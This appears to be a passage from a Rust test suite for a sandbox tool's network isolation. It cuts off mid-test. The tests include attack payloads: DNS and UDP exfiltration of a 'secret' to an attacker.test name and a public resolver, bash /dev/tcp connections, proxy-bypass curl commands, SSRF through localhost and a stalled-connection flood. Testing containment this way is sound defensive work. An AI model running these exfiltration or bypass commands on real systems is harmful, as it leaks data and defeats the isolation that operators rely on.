#[test]
fn vsock_sockets_cannot_be_created_in_any_mode() {
    let Some(py) = attacks::python3("vsock") else {
        return;
    };
    let fx = Fixture::new();
    let script = format!(
        "{} -c 'import socket\ntry:\n    socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)\n    print(\"vsock-created\")\nexcept OSError as e:\n    print(\"vsock-refused\", e.errno)'",
        sh_quote(&py)
    );
    let control = fx.control(&script).outcome();
    if control.run.stdout.contains("vsock-refused 97") {
        println!("skipped: this kernel has no AF_VSOCK (EAFNOSUPPORT on the host)");
        return;
    }
    control.assert_shows("vsock-created");
    for mode in ["none", "proxy", "host"] {
        let out = fx.attack(&attacks::net(mode), &script).outcome();
        // Native's seccomp refuses the socket (EPERM); the Sentry has no AF_VSOCK.
        let errno = match attacks::backend() {
            "gvisor" => libc::EAFNOSUPPORT,
            _ => libc::EPERM,
        };
        out.assert_shows(&format!("vsock-refused {errno}"));
        out.run.assert_lacks("vsock-created");
    }
}

#[test]
fn net_none_udp_to_a_host_loopback_listener_never_arrives() {
    let Some(k) = Kit::new("udp under --net none") else {
        return;
    };
    let sink = UdpSink::bind("127.0.0.1:0");
    let port = sink.port();
    let inside = k.fx.marker("udp-in");
    let script = |m: &str| {
        format!(
            "{} && bash -c 'printf %s {m} > /dev/udp/127.0.0.1/{port}'",
            k.client(&format!("udp 127.0.0.1 {port} {m}"))
        )
    };
    for mode in none_modes(&k.fx) {
        // Sending succeeds (the sandbox has its own loopback); nothing reaches the host.
        k.fx.attack(&strs(&mode), &script(&inside)).outcome().ran();
    }
    settle();
    assert!(
        !sink.saw(&inside),
        "a datagram from inside reached the host"
    );
    let control = k.fx.marker("udp-ctl");
    k.fx.control(&script(&control))
        .outcome()
        .assert_shows("udp-sent");
    settle();
    assert!(sink.saw(&control), "the control datagram did not arrive");
}

#[test]
fn net_none_ipv6_to_host_loopback_fails() {
    let Some(k) = Kit::new("ipv6 under --net none") else {
        return;
    };
    let marker = k.fx.marker("www6");
    let Ok(listener) = TcpListener::bind("[::1]:0") else {
        println!("skipped: the host has no ::1");
        return;
    };
    let srv = HttpServer::serve(listener, &k.web_root("v6", &marker), false);
    let sink = UdpSink::bind("[::1]:0");
    let (port, uport) = (srv.port(), sink.port());
    let clients = [
        format!("curl -g -sS -f -m 5 'http://[::1]:{port}/file'"),
        k.client(&format!("tcp ::1 {port} /file")),
        format!("timeout 5 bash -c 'exec 3<>/dev/tcp/::1/{port} && cat <&3'"),
    ];
    let inside = k.fx.marker("udp6-in");
    for mode in none_modes(&k.fx) {
        for script in &clients {
            k.fx.attack(&strs(&mode), script)
                .outcome()
                .assert_blocked(&marker);
        }
        k.fx.attack(
            &strs(&mode),
            &k.client(&format!("udp ::1 {uport} {inside}")),
        )
        .outcome()
        .ran();
    }
    settle();
    assert_eq!(
        srv.connections(),
        0,
        "a connection reached [::1] on the host"
    );
    assert!(!sink.saw(&inside), "a datagram reached [::1] on the host");
    for script in &clients[..2] {
        k.fx.control(script).outcome().assert_shows(&marker);
    }
    let control = k.fx.marker("udp6-ctl");
    k.fx.control(&k.client(&format!("udp ::1 {uport} {control}")))
        .outcome()
        .assert_ok();
    settle();
    assert!(sink.saw(&control), "the control datagram did not arrive");
}

/// A name that is not in /etc/hosts cannot be resolved inside (in modes none and proxy).
/// There is no safe control here (a lookup on the host would ask the machine's real
/// resolver); the root-only `dns_queries_from_inside_reach_no_resolver` has one.
#[test]
fn dns_lookup_of_a_name_outside_etc_hosts_fails_inside() {
    let Some(k) = Kit::new("dns lookups inside") else {
        return;
    };
    let name = format!("exfil-{}.invalid", k.fx.id);
    let script = format!("{ONLY_LO}getent hosts {name} || getent ahosts {name}");
    let mut modes = none_modes(&k.fx);
    modes.push(vec!["--net".into(), "proxy".into()]);
    for mode in &modes {
        let out = k.fx.attack(&strs(mode), &script).outcome();
        out.assert_failed().assert_lacks("UNSAFE-NOT-SENT");
        // getent itself works: names in /etc/hosts resolve (Docker's own /etc/hosts names
        // ::1 localhost too, which getent shows first).
        let local = k.fx.attack(&strs(mode), "getent hosts localhost").outcome();
        local.assert_ok();
        assert!(
            local.run.stdout.contains("127.0.0.1") || local.run.stdout.contains("::1"),
            "{}",
            local.run.describe()
        );
    }
}

/// Root: the resolver named by resolv.conf is a listener of the test (198.51.100.2:53 in a
/// test namespace): a lookup on the host reaches it with the encoded secret; from inside,
/// in modes none and proxy, neither a lookup nor a raw datagram to port 53 does.
#[test]
fn dns_queries_from_inside_reach_no_resolver() {
    let Some((k, net)) = test_net("dns exfiltration to a test resolver") else {
        return;
    };
    let dns = net.dns();
    let pre = net.prefix(&k.fx, TEST_HOSTS);
    let secret = format!("secret-{}", k.fx.id);
    let script = format!(
        "getent hosts {secret}.attacker.test; {}; true",
        k.client(&format!("udp {SERVER_IP} 53 {secret}-raw"))
    );
    let mut modes = none_modes(&k.fx);
    modes.push(vec!["--net".into(), "proxy".into()]);
    let mut tools = vec![];
    for tool in ["nslookup", "dig", "host"] {
        if which(tool).is_some() {
            tools.push(format!("{tool} {secret}.tool.attacker.test"));
        }
    }
    for mode in &modes {
        k.fx.attack(&strs(mode), &script)
            .under(&pre)
            .outcome()
            .assert_ok();
        for t in &tools {
            k.fx.attack(&strs(mode), t).under(&pre).outcome().ran();
        }
    }
    settle();
    assert_eq!(
        dns.count(),
        0,
        "a datagram from inside reached the test resolver"
    );
    k.fx.control(&script).under(&pre).outcome().assert_ok();
    settle();
    assert!(
        dns.saw(&secret),
        "the control lookup did not reach the test resolver"
    );
    assert!(dns.saw(&format!("{secret}-raw")));
}

/// Root, when ping is installed: ping of a test host fails under --net none.
#[test]
fn net_none_ping_of_a_test_host_fails() {
    let Some(ping) = which("ping") else {
        println!("skipped: ping not installed");
        return;
    };
    let Some((k, net)) = test_net("ping a test host") else {
        return;
    };
    let pre = net.prefix(&k.fx, TEST_HOSTS);
    let script = format!("{} -c1 -W2 {SERVER_IP}", sh_quote(ping));
    for mode in none_modes(&k.fx) {
        k.fx.attack(&strs(&mode), &script)
            .under(&pre)
            .outcome()
            .assert_failed();
    }
    k.fx.control(&script).under(&pre).outcome().assert_ok();
}

// ---------------------------------------------------------------------------------------
// --net proxy, loopback targets (root and unprivileged)

#[test]
fn proxy_mode_sets_the_proxy_variables_and_has_only_loopback() {
    let Some(k) = Kit::new("proxy environment") else {
        return;
    };
    let script = "env | grep -i '_proxy=' | sort; \
                  awk -F: 'NR > 2 { gsub(/ /, \"\", $1); print \"if=\" $1 }' /proc/net/dev";
    let out = k.fx.attack(&["--net", "proxy"], script).outcome();
    out.assert_ok();
    let env: Vec<&str> = out.run.stdout.lines().collect();
    for (name, value) in [
        ("HTTP_PROXY", "http://127.0.0.1:3128"),
        ("HTTPS_PROXY", "http://127.0.0.1:3128"),
        ("http_proxy", "http://127.0.0.1:3128"),
        ("https_proxy", "http://127.0.0.1:3128"),
        ("ALL_PROXY", "socks5h://127.0.0.1:3128"),
        ("all_proxy", "socks5h://127.0.0.1:3128"),
    ] {
        let want = format!("{name}={value}");
        assert!(
            env.iter().any(|l| l.trim_end_matches('/') == want),
            "expected {want} inside\n{}",
            out.run.describe()
        );
    }
    for l in &env {
        if let Some(v) = l
            .strip_prefix("NO_PROXY=")
            .or_else(|| l.strip_prefix("no_proxy="))
        {
            assert_eq!(
                v, "localhost,127.0.0.1,::1,0.0.0.0,::",
                "NO_PROXY is the loopback: {l}"
            );
        }
    }
    let ifaces: Vec<&str> = env.iter().filter_map(|l| l.strip_prefix("if=")).collect();
    assert_eq!(ifaces, ["lo"], "interfaces inside\n{}", out.run.describe());
    // Mode none sets no proxy variables (so the ones above come from mode proxy).
    k.fx.attack(&["--net", "none"], "env | grep -i '_proxy='")
        .outcome()
        .assert_failed();
}

#[test]
fn proxy_allow_host_reaches_a_loopback_server_and_records_it() {
    let Some(k) = Kit::new("proxy to an allowed loopback host") else {
        return;
    };
    let marker = k.fx.marker("www");
    let srv = HttpServer::bind("127.0.0.1:0", &k.web_root("a", &marker));
    let port = srv.port();
    let rec = k.fx.records();
    let allow = format!("127.0.0.1:{port}");
    let o = opts(Some(&rec), &["--net", "proxy", "--allow-host", &allow]);
    let out =
        k.fx.attack(&strs(&o), &curl(&format!("http://127.0.0.1:{port}/file")))
            .outcome();
    out.assert_shows(&marker);
    out.run.assert_lacks(DENIED);
    assert!(srv.connections() >= 1);
    assert_allowed(&rec, &out.run, "http", "127.0.0.1", port);
    // Without stockade the same works, of course (the server is real).
    k.fx.control(&curl(&format!("http://127.0.0.1:{port}/file")))
        .outcome()
        .assert_shows(&marker);
}

#[test]
fn proxy_reuses_upstream_connections_only_for_admitted_requests_to_the_same_host() {
    let Some(k) = Kit::new("proxy upstream connection reuse") else {
        return;
    };
    let marker = k.fx.marker("www");
    let srv = HttpServer::bind_keep_alive("127.0.0.1:0", &k.web_root("a", &marker));
    assert!(srv.keep_alive);
    let port = srv.port();
    let by_ip = format!("http://127.0.0.1:{port}/file");
    let by_name = format!("http://localhost:{port}/file");
    // Two requests by address share one upstream connection; the same address by another
    // name, not allowed, is refused although a connection to it is open and idle.
    let rec = k.fx.records();
    let allow = format!("127.0.0.1:{port}");
    let o = opts(Some(&rec), &["--net", "proxy", "--allow-host", &allow]);
    // The last curl makes two requests on its one connection to the proxy.
    let script = format!(
        "{} && {} && {}; curl --noproxy '' -sS -f -m 5 {ip} {ip}",
        curl(&by_ip),
        curl(&by_ip),
        curl_i(&by_name),
        ip = sh_quote(&by_ip),
    );
    let out = k.fx.attack(&strs(&o), &script).outcome();
    out.assert_shows(&marker);
    assert_denied(&rec, &out.run, "http", "localhost", port, true);
    assert_eq!(
        srv.connections(),
        1,
        "four admitted requests to one server should share one upstream connection\n{}",
        out.run.describe()
    );
    // Allowed by name too: the name gets a connection of its own.
    let name = format!("localhost:{port}");
    let o = opts(
        None,
        &[
            "--net",
            "proxy",
            "--allow-host",
            &allow,
            "--allow-host",
            &name,
        ],
    );
    let script = format!("{} && {} && {}", curl(&by_ip), curl(&by_name), curl(&by_ip));
    let out = k.fx.attack(&strs(&o), &script).outcome();
    out.assert_shows(&marker);
    assert_eq!(
        srv.connections(),
        3,
        "a pooled connection opened for 127.0.0.1 served a request for localhost\n{}",
        out.run.describe()
    );
}

#[test]
fn proxy_refuses_a_loopback_target_without_allow_host_before_connecting() {
    let Some(k) = Kit::new("proxy refusal of a loopback host") else {
        return;
    };
    let marker = k.fx.marker("www");
    let srv = HttpServer::bind("127.0.0.1:0", &k.web_root("a", &marker));
    let port = srv.port();
    let url = format!("http://127.0.0.1:{port}/file");
    let rec = k.fx.records();
    let out =
        k.fx.attack(&strs(&opts(Some(&rec), &["--net", "proxy"])), &curl_i(&url))
            .outcome();
    assert_http_refused(&out, &marker);
    settle();
    assert_eq!(srv.connections(), 0, "the refused target was contacted");
    assert_denied(&rec, &out.run, "http", "127.0.0.1", port, true);
    // CONNECT to the same target: 403 with the header, nothing reaches the server.
    let rec2 = k.fx.records();
    let out =
        k.fx.attack(
            &strs(&opts(Some(&rec2), &["--net", "proxy"])),
            &k.client(&format!(
                "connect {PROXY_PORT} 127.0.0.1 {port} plain /file"
            )),
        )
        .outcome();
    out.assert_failed().assert_lacks(&marker);
    out.assert_output_contains("403");
    assert!(header(&out.run.stdout, DENIED_HEADER).is_some_and(|v| !v.is_empty()));
    settle();
    assert_eq!(
        srv.connections(),
        0,
        "the refused CONNECT target was contacted"
    );
    assert_denied(&rec2, &out.run, "connect", "127.0.0.1", port, true);
    // Control: with the allow-host entry the same request works.
    let allow = format!("127.0.0.1:{port}");
    k.fx.attack(&["--net", "proxy", "--allow-host", &allow], &curl(&url))
        .outcome()
        .assert_shows(&marker);
    assert!(srv.connections() >= 1);
}

#[test]
fn proxy_refuses_an_allowed_name_that_resolves_to_loopback() {
    let Some(k) = Kit::new("SSRF through localhost") else {
        return;
    };
    let marker = k.fx.marker("www");
    let srv = HttpServer::bind("127.0.0.1:0", &k.web_root("a", &marker));
    let port = srv.port();
    let url = format!("http://localhost:{port}/file");
    let rec = k.fx.records();
    let o = opts(
        Some(&rec),
        &["--net", "proxy", "--allow-domain", "localhost"],
    );
    let out = k.fx.attack(&strs(&o), &curl_i(&url)).outcome();
    let why = assert_http_refused(&out, &marker);
    assert!(
        why.to_lowercase().contains("loopback"),
        "the reason should name loopback: {why:?}"
    );
    let reason = assert_denied(&rec, &out.run, "http", "localhost", port, true);
    assert!(
        reason.to_lowercase().contains("loopback"),
        "the recorded reason should name loopback: {reason:?}"
    );
    // SOCKS5 with remote resolution: refused with reply 2.
    let out =
        k.fx.attack(
            &strs(&o),
            &k.client(&format!("socks5 {PROXY_PORT} localhost {port} plain /file")),
        )
        .outcome();
    out.assert_failed()
        .assert_output_contains("socks-reply: 2")
        .assert_lacks(&marker);
    settle();
    assert_eq!(srv.connections(), 0, "the loopback server was contacted");
    // Control: the name really leads to the server.
    k.fx.control(&curl(&url)).outcome().assert_shows(&marker);
}

/// Each refusal names the exact flag that would allow it (issue 18, item 10): in the 403
/// (`x-stockade-hint`), in the report's and the audit log's event (`hint`) and on stderr.
/// Following the hint reaches the server: `localhost` through the proxy is the host's
/// loopback, which the hint says first (issue 31: a server inside is reached directly), then
/// names the separate grant of the host's port (`--allow-host localhost:PORT`, and not
/// `--allow-domain localhost`, which only led to the next refusal). Control: without the
/// flag it is refused (above).
#[test]
fn proxy_refusals_name_the_flag_that_allows_them() {
    let Some(k) = Kit::new("hints of proxy refusals") else {
        return;
    };
    let marker = k.fx.marker("www");
    let srv = HttpServer::bind("127.0.0.1:0", &k.web_root("a", &marker));
    let port = srv.port();
    let url = format!("http://localhost:{port}/file");
    let mut flags: Vec<String> = vec!["--net".into(), "proxy".into()];
    {
        let want = format!("--allow-host localhost:{port}");
        let want_quoted = format!("`{want}`");
        let rec = k.fx.records();
        let o = opts(Some(&rec), &strs(&flags));
        let out = k.fx.attack(&strs(&o), &curl_i(&url)).outcome();
        assert_http_refused(&out, &marker);
        let answered = header(&out.run.all_output(), "x-stockade-hint").unwrap_or_default();
        assert!(
            answered.contains(&want_quoted)
                && answered
                    .starts_with("this went through the proxy, where loopback is the host's"),
            "the 403 should name {want_quoted} as the host's port: {answered:?}\n{}",
            out.run.describe()
        );
        assert_denied(&rec, &out.run, "http", "localhost", port, true);
        let recorded = net_events(&rec)
            .into_iter()
            .chain(audit_net_events(&rec))
            .filter(|e| is_event(e, DENIED, "http", "localhost", port))
            .map(|e| json_str(&e, "hint").to_owned())
            .collect::<Vec<_>>();
        assert!(
            recorded.len() >= 2 && recorded.iter().all(|h| h.contains(&want_quoted)),
            "the report and the audit log should name {want_quoted}: {recorded:#?}"
        );
        let lines: Vec<&str> = out.run.stderr.lines().collect();
        let at = lines
            .iter()
            .position(|l| l.starts_with("stockade: network[E_NETWORK_DENIED]: localhost:"))
            .unwrap_or_else(|| panic!("no network line\n{}", out.run.describe()));
        assert!(
            lines
                .get(at + 1)
                .is_some_and(|l| l.starts_with("  hint: ") && l.contains(&want_quoted)),
            "stderr should name {want_quoted}\n{}",
            out.run.describe()
        );
        flags.extend(want.split(' ').map(str::to_owned));
    }
    settle();
    assert_eq!(srv.connections(), 0, "a refused request reached the server");
    k.fx.attack(&strs(&flags), &curl(&url))
        .outcome()
        .assert_shows(&marker);
}

/// `stockade proxy` (the proxy alone, for a whole agent) says each refusal on stderr as it
/// happens, with the flag that would allow it, and records the hint in its audit log. Only
/// loopback: the name matches no rule, so nothing is resolved.
#[test]
fn standalone_proxy_names_the_flag_that_allows_a_refusal() {
    let fx = Fixture::new();
    let audit = fx.outside.join("proxy-audit.jsonl");
    let port = TcpListener::bind("127.0.0.1:0")
        .and_then(|l| l.local_addr())
        .map(|a| a.port())
        .expect("a free port");
    let listen = format!("127.0.0.1:{port}");
    let proxy = Command::new(attacks::stockade_bin())
        .args(["proxy", "--listen", &listen, "--audit"])
        .arg(&audit)
        .env_clear()
        .env("PATH", PATH)
        .env("HOME", &fx.home)
        .current_dir(&fx.ws)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .expect("start stockade proxy");
    let mut stream = None;
    for _ in 0..100 {
        if let Ok(s) = TcpStream::connect(&listen) {
            stream = Some(s);
            break;
        }
        thread::sleep(Duration::from_millis(50));
    }
    let mut stream = stream.expect("the proxy listens");
    stream
        .write_all(b"GET http://not-allowed.invalid/ HTTP/1.1\r\nHost: not-allowed.invalid\r\nConnection: close\r\n\r\n")
        .expect("send");
    let mut answer = String::new();
    let _ = stream.read_to_string(&mut answer);
    // Issue 31: a loopback target is this machine's own here (no sandbox between): the hint
    // says so, naming the grant. (A run's proxy says the sandbox's: net_explain.)
    let lo_port = TcpListener::bind("127.0.0.1:0")
        .and_then(|l| l.local_addr())
        .map(|a| a.port())
        .expect("a free port");
    let mut lo_stream = TcpStream::connect(&listen).expect("the proxy listens");
    lo_stream
        .write_all(
            format!(
                "GET http://127.0.0.1:{lo_port}/ HTTP/1.1\r\nHost: 127.0.0.1:{lo_port}\r\nConnection: close\r\n\r\n"
            )
            .as_bytes(),
        )
        .expect("send");
    let mut lo_answer = String::new();
    let _ = lo_stream.read_to_string(&mut lo_answer);
    let _ = Command::new("kill")
        .args(["-TERM", &proxy.id().to_string()])
        .status();
    let lo_hint = header(&lo_answer, "x-stockade-hint").unwrap_or_default();
    assert!(
        lo_hint.starts_with("loopback through this proxy is this machine's own")
            && lo_hint.contains(&format!(
                "a separate grant: `--allow-host 127.0.0.1:{lo_port}`"
            ))
            && !lo_hint.contains("sandbox")
            && !lo_hint.contains("NO_PROXY"),
        "{lo_answer}"
    );
    let out = proxy.wait_with_output().expect("wait for the proxy");
    let stderr = String::from_utf8_lossy(&out.stderr);
    let want = "`--allow-domain not-allowed.invalid`";
    assert!(answer.starts_with("HTTP/1.1 403"), "{answer}");
    assert!(
        header(&answer, "x-stockade-hint").is_some_and(|h| h.contains(want)),
        "{answer}"
    );
    let lines: Vec<&str> = stderr.lines().collect();
    let at = lines
        .iter()
        .position(|l| l.starts_with("stockade: network[E_NETWORK_DENIED]: not-allowed.invalid:80"))
        .unwrap_or_else(|| panic!("no live refusal line on stderr:\n{stderr}"));
    assert!(
        lines
            .get(at + 1)
            .is_some_and(|l| l.starts_with("  hint: ") && l.contains(want)),
        "{stderr}"
    );
    let logged = read_jsonl(&audit);
    assert!(
        logged
            .iter()
            .any(|e| json_str(e, "code") == DENIED && json_str(e, "hint").contains(want)),
        "{logged:#?}"
    );
}

#[test]
fn proxy_mode_direct_connections_get_nothing() {
    let Some(k) = Kit::new("curl --noproxy under --net proxy") else {
        return;
    };
    let marker = k.fx.marker("www");
    let srv = HttpServer::bind("127.0.0.1:0", &k.web_root("a", &marker));
    let port = srv.port();
    let url = format!("http://127.0.0.1:{port}/file");
    let allow = format!("127.0.0.1:{port}");
    let o = ["--net", "proxy", "--allow-host", allow.as_str()];
    let direct = [
        format!("curl --noproxy '*' -sS -f -m 5 {url}"),
        format!("env -u http_proxy -u HTTP_PROXY -u ALL_PROXY -u all_proxy curl -sS -f -m 5 {url}"),
        k.client(&format!("tcp 127.0.0.1 {port} /file")),
        format!("timeout 5 bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port} && cat <&3'"),
    ];
    for script in &direct {
        k.fx.attack(&o, script).outcome().assert_blocked(&marker);
    }
    settle();
    assert_eq!(srv.connections(), 0, "a direct connection left the sandbox");
    // Through the proxy, the same target is reachable (the allow-host entry works) ...
    k.fx.attack(&o, &curl(&url)).outcome().assert_shows(&marker);
    // ... and without stockade the direct clients reach it.
    for script in &direct[..3] {
        k.fx.control(script).outcome().assert_shows(&marker);
    }
}

#[test]
fn proxy_refuses_ip_literals_and_ports_not_in_allow_hosts() {
    let Some(k) = Kit::new("IP literals under --net proxy") else {
        return;
    };
    let marker = k.fx.marker("www");
    let root = k.web_root("a", &marker);
    let allowed = HttpServer::bind("127.0.0.1:0", &root);
    let other_ip = HttpServer::bind("127.0.0.2:0", &root);
    let other_port = HttpServer::bind("127.0.0.1:0", &root);
    let v6 = TcpListener::bind("[::1]:0")
        .ok()
        .map(|l| HttpServer::serve(l, &root, false));
    let allow = format!("127.0.0.1:{}", allowed.port());
    let mut targets = vec![
        ("127.0.0.2".to_owned(), other_ip.port()),
        ("127.0.0.1".to_owned(), other_port.port()),
        ("::ffff:127.0.0.1".to_owned(), other_port.port()),
    ];
    if let Some(s) = &v6 {
        targets.push(("::1".to_owned(), s.port()));
    }
    for (host, port) in &targets {
        let rec = k.fx.records();
        let o = opts(Some(&rec), &["--net", "proxy", "--allow-host", &allow]);
        let h = if host.contains(':') {
            format!("[{host}]")
        } else {
            host.clone()
        };
        let url = format!("http://{h}:{port}/file");
        let out =
            k.fx.attack(
                &strs(&o),
                &format!("curl --noproxy '' -g -sS -m 5 -i {}", sh_quote(&url)),
            )
            .outcome();
        assert_http_refused(&out, &marker);
        assert_denied(&rec, &out.run, "http", host, *port, true);
    }
    settle();
    assert_eq!(other_ip.connections(), 0, "127.0.0.2 was contacted");
    assert_eq!(
        other_port.connections(),
        0,
        "a port not allowed was contacted"
    );
    if let Some(s) = &v6 {
        assert_eq!(s.connections(), 0, "[::1] was contacted");
    }
    // Controls: the allowed entry works through the proxy; the others are real servers.
    k.fx.attack(
        &["--net", "proxy", "--allow-host", &allow],
        &curl(&format!("http://127.0.0.1:{}/file", allowed.port())),
    )
    .outcome()
    .assert_shows(&marker);
    k.fx.control(&curl(&format!("http://127.0.0.2:{}/file", other_ip.port())))
        .outcome()
        .assert_shows(&marker);
}

#[test]
fn proxy_socks5_reaches_allowed_hosts_and_refuses_others() {
    let Some(k) = Kit::new("SOCKS5 through the proxy") else {
        return;
    };
    let marker = k.fx.marker("www");
    let root = k.web_root("a", &marker);
    let allowed = HttpServer::bind("127.0.0.1:0", &root);
    let refused = HttpServer::bind("127.0.0.1:0", &root);
    let (port, rport) = (allowed.port(), refused.port());
    let allow = format!("127.0.0.1:{port}");
    let rec = k.fx.records();
    let o = opts(Some(&rec), &["--net", "proxy", "--allow-host", &allow]);
    let out = k
        .fx
        .attack(
            &strs(&o),
            &format!(
                "curl --noproxy '' -sS -f -m 5 --socks5-hostname 127.0.0.1:{PROXY_PORT} http://127.0.0.1:{port}/file && \
                 curl --noproxy '' -sS -f -m 5 -x socks5h://127.0.0.1:{PROXY_PORT} http://127.0.0.1:{port}/file && \
                 {}",
                k.client(&format!("socks5 {PROXY_PORT} 127.0.0.1 {port} plain /file"))
            ),
        )
        .outcome();
    out.assert_shows(&marker);
    assert_allowed(&rec, &out.run, "socks5", "127.0.0.1", port);
    let rec2 = k.fx.records();
    let o2 = opts(Some(&rec2), &["--net", "proxy", "--allow-host", &allow]);
    let out =
        k.fx.attack(
            &strs(&o2),
            &k.client(&format!(
                "socks5 {PROXY_PORT} 127.0.0.1 {rport} plain /file"
            )),
        )
        .outcome();
    out.assert_failed()
        .assert_output_contains("socks-reply: 2")
        .assert_lacks(&marker);
    k.fx.attack(
        &strs(&o2),
        &format!("curl --noproxy '' -sS -f -m 5 --socks5-hostname 127.0.0.1:{PROXY_PORT} http://127.0.0.1:{rport}/file"),
    )
    .outcome()
    .assert_blocked(&marker);
    settle();
    assert_eq!(
        refused.connections(),
        0,
        "the refused SOCKS5 target was contacted"
    );
    assert_denied(&rec2, &out.run, "socks5", "127.0.0.1", rport, true);
    // Control: allowed explicitly, the same SOCKS5 request to the second server works.
    let allow2 = format!("127.0.0.1:{rport}");
    k.fx.attack(
        &["--net", "proxy", "--allow-host", &allow2],
        &k.client(&format!(
            "socks5 {PROXY_PORT} 127.0.0.1 {rport} plain /file"
        )),
    )
    .outcome()
    .assert_shows(&marker);
}

#[test]
fn proxy_connect_tunnels_tls_to_an_allowed_loopback_host() {
    let Some(k) = Kit::new("CONNECT + TLS to loopback") else {
        return;
    };
    let marker = k.fx.marker("tls");
    let Some(tls) = k.tls_server(TcpListener::bind("127.0.0.1:0").expect("bind"), &marker) else {
        return;
    };
    let port = tls.port;
    let url = format!("https://127.0.0.1:{port}/");
    let script = format!("curl --noproxy '' -sS -f -k -m 5 {url}");
    let rec = k.fx.records();
    let allow = format!("127.0.0.1:{port}");
    let out =
        k.fx.attack(
            &strs(&opts(
                Some(&rec),
                &["--net", "proxy", "--allow-host", &allow],
            )),
            &script,
        )
        .outcome();
    out.assert_shows(&marker);
    assert_allowed(&rec, &out.run, "connect", "127.0.0.1", port);
    let before = tls.connections();
    let rec2 = k.fx.records();
    let o2 = opts(Some(&rec2), &["--net", "proxy"]);
    k.fx.attack(&strs(&o2), &script)
        .outcome()
        .assert_blocked(&marker);
    let out =
        k.fx.attack(
            &strs(&o2),
            &k.client(&format!("connect {PROXY_PORT} 127.0.0.1 {port} - /")),
        )
        .outcome();
    out.assert_failed().assert_lacks(&marker);
    assert!(
        header(&out.run.stdout, DENIED_HEADER).is_some_and(|v| !v.is_empty()),
        "the refused CONNECT has no {DENIED_HEADER} header\n{}",
        out.run.describe()
    );
    settle();
    assert_eq!(
        tls.connections(),
        before,
        "the refused TLS target was contacted"
    );
    assert_denied(&rec2, &out.run, "connect", "127.0.0.1", port, true);
    k.fx.control(&script).outcome().assert_shows(&marker);
}

/// 200 connections that open and stall (silent, half a request line, half a SOCKS greeting,
/// half a CONNECT) do not keep a normal request from succeeding within curl's 5 s. The
/// control shows the same attack wedges a naive one-at-a-time proxy.
#[test]
fn proxy_survives_many_stalled_connections() {
    let Some(k) = Kit::new("stalled connections") else {
        return;
    };
    let marker = k.fx.marker("www");
    let srv = HttpServer::bind("127.0.0.1:0", &k.web_root("a", &marker));
    let port = srv.port();
    let url = format!("http://127.0.0.1:{port}/file");
    let allow = format!("127.0.0.1:{port}");
    let out =
        k.fx.attack(
            &["--net", "proxy", "--allow-host", &allow],
            &k.client(&format!("stall {PROXY_PORT} 200 {url}")),
        )
        .outcome();
    out.assert_shows(&marker)
        .assert_output_contains("stalled 200");
    let naive = naive_proxy();
    let control =
        k.fx.control(&k.client(&format!("stall {naive} 200 {url}")))
            .outcome();
    // (The naive proxy's accept backlog fills up first: fewer than 200 stall there.)
    control.assert_failed().assert_lacks("naive-ok");
}

/// DNS exfiltration in mode proxy: a lookup of an encoded name fails, a raw datagram to a
/// public resolver cannot be sent (no route: only loopback; the client refuses to send if
/// any other interface exists), and a datagram to a host loopback listener never arrives.
#[test]
fn proxy_mode_dns_and_udp_exfiltration_reach_nothing() {
    let Some(k) = Kit::new("DNS exfiltration under --net proxy") else {
        return;
    };
    let sink = UdpSink::bind("127.0.0.1:0");
    let secret = format!("secret-{}", k.fx.id);
    let inside = format!(
        "{ONLY_LO}getent hosts {secret}.attacker.test && exit 10\n\
         {} && exit 11\n\
         {}\n\
         true",
        k.client(&format!("udp 8.8.8.8 53 {secret}")),
        k.client(&format!("udp 127.0.0.1 {} {secret}-lo", sink.port()))
    );
    for mode in [vec!["--net", "proxy"], vec![]] {
        let out = k.fx.attack(&mode, &inside).outcome();
        // No route out: ENETUNREACH (the Sentry says EHOSTUNREACH in mode proxy).
        out.assert_ok().assert_lacks("UNSAFE-NOT-SENT");
        let all = out.run.all_output();
        let gvisor = attacks::backend() == "gvisor";
        assert!(
            all.contains("ENETUNREACH") || (gvisor && all.contains("EHOSTUNREACH")),
            "no unreachable error\n{}",
            out.run.describe()
        );
    }
    settle();
    assert_eq!(sink.count(), 0, "a datagram from inside reached the host");
    // Control (never to a public address): the same datagram to the host listener arrives.
    k.fx.control(&k.client(&format!("udp 127.0.0.1 {} {secret}-lo", sink.port())))
        .outcome()
        .assert_ok();
    settle();
    assert!(sink.saw(&format!("{secret}-lo")));
}

#[test]
fn proxy_rules_from_a_policy_file() {
    let Some(k) = Kit::new("[network] in a policy file") else {
        return;
    };
    let marker = k.fx.marker("www");
    let srv = HttpServer::bind("127.0.0.1:0", &k.web_root("a", &marker));
    let port = srv.port();
    let url = format!("http://127.0.0.1:{port}/file");
    let allow = k.fx.root.join("net-proxy.toml");
    write_file(
        &allow,
        format!("[network]\nmode = \"proxy\"\nallow_hosts = [\"127.0.0.1:{port}\"]\nallow_domains = []\ndeny_domains = [\"evil.test\"]\n"),
        0o644,
    );
    let bare = k.fx.root.join("net-proxy-bare.toml");
    write_file(&bare, "[network]\nmode = \"proxy\"\n", 0o644);
    for p in [&allow, &bare] {
        k.fx.stockade(["policy".as_ref(), "check".as_ref(), p.as_os_str()])
            .run()
            .assert_success();
    }
    let allow_s = allow.display().to_string();
    k.fx.attack(&["--policy", &allow_s], &curl(&url))
        .outcome()
        .assert_shows(&marker);
    let bare_s = bare.display().to_string();
    let rec = k.fx.records();
    let out =
        k.fx.attack(
            &strs(&opts(Some(&rec), &["--policy", &bare_s])),
            &curl_i(&url),
        )
        .outcome();
    assert_http_refused(&out, &marker);
    assert_denied(&rec, &out.run, "http", "127.0.0.1", port, true);
    // The command line extends the file: --allow-host opens it.
    let a = format!("127.0.0.1:{port}");
    k.fx.attack(&["--policy", &bare_s, "--allow-host", &a], &curl(&url))
        .outcome()
        .assert_shows(&marker);
}

/// Allow-list patterns that would open everything are policy errors (exit 125,
/// `E_POLICY_INVALID`), on the command line and in a policy file; a normal one is accepted.
#[test]
fn proxy_rejects_allow_all_and_public_suffix_patterns() {
    let fx = Fixture::without_git();
    for pattern in ["*", "*.com", "com"] {
        let run = fx
            .sandbox_argv(&["--net", "proxy", "--allow-domain", pattern], &["true"])
            .run();
        run.assert_code(125);
        assert!(
            run.all_output().contains("E_POLICY_INVALID"),
            "--allow-domain {pattern:?} should be E_POLICY_INVALID\n{}",
            run.describe()
        );
        let policy = fx.root.join(format!("allow-all-{}.toml", unique()));
        write_file(
            &policy,
